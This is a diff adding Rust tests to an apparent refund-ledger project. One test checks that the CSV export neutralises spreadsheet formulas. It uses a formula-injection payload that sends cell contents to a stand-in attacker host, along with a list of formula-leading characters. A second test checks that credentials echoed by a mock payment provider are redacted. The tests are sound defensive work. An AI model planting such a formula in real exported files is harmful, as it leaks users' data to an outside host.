@@ -86,6 +86,121 @@ fn the_refunds_csv_holds_exactly_the_filtered_refunds() {
 }
 
 #[test]
+fn the_refunds_csv_neutralises_a_formula_in_a_note_and_keeps_amounts_numbers() {
+    let mut l = ledger();
+    l.add(&[sale("CO-F", "P-F", "CO", "3000000")]);
+    let sam = op(&l.db, "sam");
+    let hyperlink = r#"=HYPERLINK("http://attacker.example/?"&A1,"Click")"#;
+    let mut input = psp_refund("P-F", "150000");
+    input.note = Some(hyperlink.into());
+    let r = refunds::request(&mut l.store, &sam, &input, Utc::now()).unwrap();
+    let mut full_width = psp_refund("P-F", "1000");
+    full_width.note = Some("＠SUM(A1:A9)".into());
+    refunds::request(&mut l.store, &sam, &full_width, Utc::now()).unwrap();
+    let path = l.dir.path().join("refunds.csv");
+    assert_eq!(refunds::export::export_csv(&l.store, &RefundQuery::default(), &path).unwrap(), 2);
+    let bytes = std::fs::read(&path).unwrap();
+    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "BOM for spreadsheet programs");
+    let mut reader = csv::Reader::from_reader(&bytes[3..]);
+    let header = reader.headers().unwrap().clone();
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 2);
+    assert_eq!(&rows[0][column("id")], r.id.to_string().as_str());
+    assert_eq!(&rows[0][column("note")], format!("'{hyperlink}").as_str());
+    assert_eq!(&rows[0][column("amount")], "150000.00");
+    assert_eq!(&rows[1][column("note")], "'＠SUM(A1:A9)");
+    assert_eq!(&rows[1][column("amount")], "1000.00");
+    // No cell of the file starts a formula.
+    let leads = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+    for row in &rows {
+        assert!(row.iter().all(|cell| !cell.starts_with(leads)), "{row:?}");
+    }
+}
+
+/// A dLocal stand-in on loopback that refuses one request (HTTP 400) and
+/// echoes its headers and our keys back in the error message.
+fn start_echoing_dlocal() -> (String, std::thread::JoinHandle<()>) {
+    use std::io::{BufRead, Read, Write};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    let thread = std::thread::spawn(move || {
+        let (conn, _) = listener.accept().unwrap();
+        let mut writer = conn.try_clone().unwrap();
+        let mut reader = std::io::BufReader::new(conn);
+        let (mut headers, mut length) = (Vec::new(), 0);
+        loop {
+            let mut line = String::new();
+            if reader.read_line(&mut line).unwrap() == 0 || line == "\r\n" {
+                break;
+            }
+            let line = line.trim_end().to_string();
+            if let Some((name, value)) = line.split_once(':') {
+                if name.eq_ignore_ascii_case("content-length") {
+                    length = value.trim().parse().unwrap();
+                }
+                if name.eq_ignore_ascii_case("x-trans-key") {
+                    headers.push(format!("bad key {}", value.trim()));
+                }
+            }
+            headers.push(line);
+        }
+        let mut body = vec![0; length];
+        reader.read_exact(&mut body).unwrap();
+        let answer = serde_json::json!({"code": 5000, "message": format!("Invalid request: {}", headers.join(" | "))})
+            .to_string();
+        write!(
+            writer,
+            "HTTP/1.1 400 Bad Request\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{answer}",
+            answer.len()
+        )
+        .unwrap();
+    });
+    (url, thread)
+}
+
+#[test]
+fn a_psp_that_echoes_our_keys_leaks_none_into_the_refund_its_report_or_the_audit_log() {
+    use voucherdesk::psp::dlocal::client::{DlocalClient, DlocalCredentials};
+    const LOGIN: &str = "echo-login-77";
+    const TRANS_KEY: &str = "echo-trans-key-88";
+    let mut l = ledger();
+    l.add(&[sale("CO-E", "P-E", "CO", "3000000")]);
+    let sam = op(&l.db, "sam");
+    let r = refunds::request(&mut l.store, &sam, &psp_refund("P-E", "150000"), Utc::now()).unwrap();
+    assert_eq!(r.status, RefundStatus::Approved);
+    let (url, psp) = start_echoing_dlocal();
+    let keys = DlocalCredentials { login: LOGIN.into(), trans_key: TRANS_KEY.into(), secret: "echo-secret-99".into() };
+    let client = DlocalClient::new(&url, keys, std::time::Duration::from_secs(10)).unwrap();
+    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
+    let config = SubmitConfig { batch_max: 1, ..SubmitConfig::default() };
+    let report = rt.block_on(submit_and_follow(&mut l.store, &client, &sam, &config, Utc::now(), &|_| {})).unwrap();
+    psp.join().unwrap();
+    assert_eq!((report.submitted, report.failed, report.issues.len()), (1, 1, 1));
+    let shown = refunds::show(&l.store, r.id).unwrap();
+    assert_eq!(shown.status, RefundStatus::Failed);
+    let last_error = shown.last_error.unwrap();
+    assert!(
+        last_error.starts_with(
+            "dlocal.refused: dLocal create refund: refused (HTTP 400, dLocal code 5000): Invalid request: POST /refunds"
+        ),
+        "{last_error}"
+    );
+    assert!(last_error.contains("x-login: [redacted]") && last_error.contains("bad key [redacted]"), "{last_error}");
+    let issue = &report.issues[0].message;
+    let audit =
+        voucherdesk::audit::page(&l.store, &voucherdesk::audit::AuditQuery { limit: 500, ..Default::default() })
+            .unwrap();
+    assert!(audit.iter().any(|e| e.entry.action == "refund.psp_error"), "the error is audited");
+    for text in std::iter::once(last_error.clone())
+        .chain(std::iter::once(issue.clone()))
+        .chain(audit.iter().map(|e| format!("{:?}", e.entry)))
+    {
+        assert!(!text.contains(LOGIN) && !text.contains(TRANS_KEY), "{text}");
+    }
+}
+
+#[test]
 fn the_dashboard_counts_pending_by_tier_and_time_to_approve() {
     let mut l = ledger();
     l.add(&[sale("CO-A", "P-A", "CO", "3000000"), sale("CO-B", "P-B", "CO", "3000000")]);
